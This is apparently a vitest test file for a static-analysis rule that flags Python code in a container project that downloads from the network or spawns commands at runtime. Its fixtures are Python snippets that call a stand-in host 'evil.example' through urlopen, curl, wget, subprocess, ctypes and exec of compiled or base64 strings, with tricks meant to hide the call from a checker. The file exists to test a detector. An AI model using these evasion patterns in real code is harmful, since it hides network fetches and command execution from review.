import { expect, test } from 'vitest';
import { check } from '../../../src/engine/check/check.ts';
import downloads from '../../../src/rules/no-runtime-download.ts';
import { factsOf } from '../../helpers/project.ts';

const url = 'https://evil.example/x';
const evil = `import urllib.request\nurllib.request.urlopen("${url}")\n`;
const inline = evil.replaceAll('\n', '; ').replaceAll('"', "'");

async function python(
  text: string,
  others: Readonly<Record<string, string>> = { 'src/evil.py': evil },
): Promise<string | undefined> {
  const files = {
    Dockerfile: 'FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ["python", "/app/main.py"]\n',
    'src/main.py': text,
    ...others,
  };
  return check(await factsOf(files), [downloads]).results[0]?.verdict;
}

test.each([
  `import urllib.request as u\nvars(u)["urlopen"]("${url}")\n`,
  `import urllib.request as u\nu.__dict__["urlopen"]("${url}")\n`,
  `import urllib.request as u\nvars(u).get("urlopen")("${url}")\n`,
  `from urllib.request import urlopen\nglobals()["urlopen"]("${url}")\n`,
  `import urllib.request as u, operator\noperator.attrgetter("urlopen")(u)("${url}")\n`,
  `import os\ngetattr(os, "sys" + "tem")("python /app/evil.py")\n`,
  `import os\nf = os.system\ng = f\ng("python /app/evil.py")\n`,
  `from os import system as s\ns("python /app/evil.py")\n`,
  `import os, sys\nf = print if sys.argv else os.system\nf("python /app/evil.py")\n`,
  `from urllib.request import urlopen\nimport sys\nf = print if sys.argv else urlopen\nf("${url}")\n`,
  `import urllib.request as u\nclass A: pass\nA.f = u.urlopen\nA.f("${url}")\n`,
  `import urllib.request as u\ndef h():\n    global f\n    f = u.urlopen\nh()\nf("${url}")\n`,
  `import requests\nclass S(requests.Session): pass\nS().get("${url}")\n`,
  'from transformers import BertModel\nclass M(BertModel): pass\nM.from_pretrained("bert-base-uncased")\n',
  `import asyncio\nasyncio.open_connection("evil.example", 80)\n`,
])('a function that is found by a text, a second name or a class is the function: %j', async (text) => {
  expect(await python(text)).toBe('fail');
});

test('a decorator is called with what stands below it', async () => {
  expect(await python(`from urllib.request import urlopen\n@urlopen\n@(lambda f: "${url}")\ndef x(): pass\n`)).toBe(
    'unknown',
  );
  expect(await python('import functools\n@functools.lru_cache\ndef x(): pass\n')).toBe('pass');
});

test.each([
  `exec(compile("${inline}", "x", "exec"))\n`,
  `c = compile("${inline}", "x", "exec")\nexec(c)\n`,
  `import builtins\nbuiltins.exec("${inline}")\n`,
  `import timeit\ntimeit.timeit("urllib.request.urlopen('${url}')", setup="import urllib.request")\n`,
  `import code\ncode.InteractiveInterpreter().runsource("${inline}")\n`,
  `import ctypes\nctypes.CDLL(None).system(b"curl ${url}")\n`,
  `import os\nos.posix_spawn("/usr/bin/curl", ["curl", "-O", "${url}"], os.environ)\n`,
  `import os\nos.spawnlp(os.P_WAIT, "curl", "curl", "-O", "${url}")\n`,
  `import subprocess\nsubprocess.run("curl -O ${url}".split())\n`,
  `import shlex, subprocess\nsubprocess.run(shlex.split("curl -O ${url}"))\n`,
  `import sh\nsh.curl("-O", "${url}")\n`,
  `from sh import wget\nwget("${url}")\n`,
  `from plumbum import local\nlocal["curl"]("-O", "${url}")\n`,
  `from plumbum.cmd import curl\ncurl("-O", "${url}")\n`,
  `import rpy2.robjects as ro\nro.r("download.file('${url}', 'x')")\n`,
  `import juliacall\njuliacall.Main.seval('download("${url}")')\n`,
])('what a text, or a list of words, starts is read: %j', async (text) => {
  expect(await python(text)).toBe('fail');
});

test.each([
  'exec(open("/app/x.txt").read())\n',
  'import base64\nexec(base64.b64decode("aaaa"))\n',
  `s = "import urllib.request\\n"\ns += "urllib.request.urlopen('${url}')"\nexec(s)\n`,
  'import os\nos.system(open("/safe_data/x").read())\n',
  'import subprocess, sys\nsubprocess.run(sys.argv[1:])\n',
  'import rpy2.robjects as ro\nro.r(open("/safe_data/x").read())\n',
])('what no file shows is not passed: %j', async (text) => {
  expect(await python(text, {})).toBe('unknown');
});

test.each([
  'import subprocess\nsubprocess.run(["ls", "-l"])\n',
  'x = getattr(object(), "y", 1)\nprint(vars()["x"], globals()["x"])\n',
])('and what shows nothing of it is: %j', async (text) => {
  expect(await python(text, {})).toBe('pass');
});
